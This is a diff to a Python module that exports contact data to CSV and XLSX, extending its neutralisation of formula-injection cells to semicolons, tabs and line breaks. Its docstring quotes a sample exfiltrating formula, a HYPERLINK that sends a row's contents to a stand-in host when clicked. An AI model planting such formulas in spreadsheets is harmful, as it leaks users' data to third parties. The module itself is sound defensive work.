@@ -5,7 +5,11 @@ Contact fields come from whoever filled the contact file. A cell that starts wit
 like ``=HYPERLINK("http://x/?"&A1,"x")`` sends the row away when clicked), so text
 cells are neutralised (OWASP's rule for CSV injection):
 
-- CSV: such a text gets a leading ``'``, which spreadsheets show as text;
+- CSV: such a text gets a leading ``'``, which spreadsheets show as text. A spreadsheet
+  may split the file on another separator than ``,`` (French Excel splits on ``;``, a
+  paste on tabs) and, quotes seen only at a field's start, then starts a cell after any
+  ``;``, tab or line break inside a text: a text holding one is quoted, and a ``'`` goes
+  after each one that a formula start follows (``ACME;=2+5`` -> ``"ACME;'=2+5"``);
 - XLSX: every text is written as a text cell (never a formula), and such a text also
   carries Excel's "quote prefix" style, so editing the cell does not revive it.
 
@@ -18,7 +22,6 @@ over any columns, so another export (captures, ...) reuses the same safe writers
 
 from __future__ import annotations
 
-import csv
 import json
 import re
 from collections.abc import Iterable, Mapping, Sequence
@@ -40,6 +43,11 @@ __all__ = [
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 _SHEET_FORBIDDEN = re.compile(r"[\\/?*\[\]:\x00-\x1f]")
+# where some spreadsheet starts a new cell inside a CSV text (see the module docstring)
+_CSV_BREAKS = ";\t\r\n"
+_CSV_QUOTED = frozenset(',"' + _CSV_BREAKS)
+# just after a break, before (quotes and) a formula start: the place for a "'"
+_CSV_CELL_FORMULA = re.compile(r'(?<=[;\t\r\n])(?="*[=+\-@\t\r])')
 
 
 def export_rows(store: Store, campaign: str) -> list[dict[str, Any]]:
@@ -71,14 +79,30 @@ def write_csv(
     rows: Iterable[Mapping[str, Any]], stream: TextIO, columns: Sequence[str] = EXPORT_COLUMNS
 ) -> int:
     """Write ``rows`` (a header, then one line each) to ``stream``; the number of rows."""
-    writer = csv.writer(stream, lineterminator="\r\n")
-    writer.writerow(columns)
+    stream.write(_csv_line(list(columns)))
     count = 0
     for row in rows:
         cells = [_text(row.get(column)) for column in columns]
-        writer.writerow([neutralise(c) if isinstance(c, str) else c for c in cells])
+        stream.write(_csv_line([_csv_text(c) if isinstance(c, str) else c for c in cells]))
         count += 1
     return count
+
+
+def _csv_text(text: str) -> str:
+    """``text`` neutralised at its start and after every ``;``, tab or line break in it."""
+    return neutralise(_CSV_CELL_FORMULA.sub("'", text))
+
+
+def _csv_line(cells: list[Any]) -> str:
+    """One CSV line as :mod:`csv` writes it, except that a text holding ``;`` or a tab is
+    quoted too (:mod:`csv` quotes only its own delimiter, quotes and line breaks)."""
+    fields = []
+    for cell in cells:
+        text = "" if cell is None else str(cell)
+        if not _CSV_QUOTED.isdisjoint(text) or (text == "" and len(cells) == 1):
+            text = '"' + text.replace('"', '""') + '"'
+        fields.append(text)
+    return ",".join(fields) + "\r\n"
 
 
 def write_xlsx(
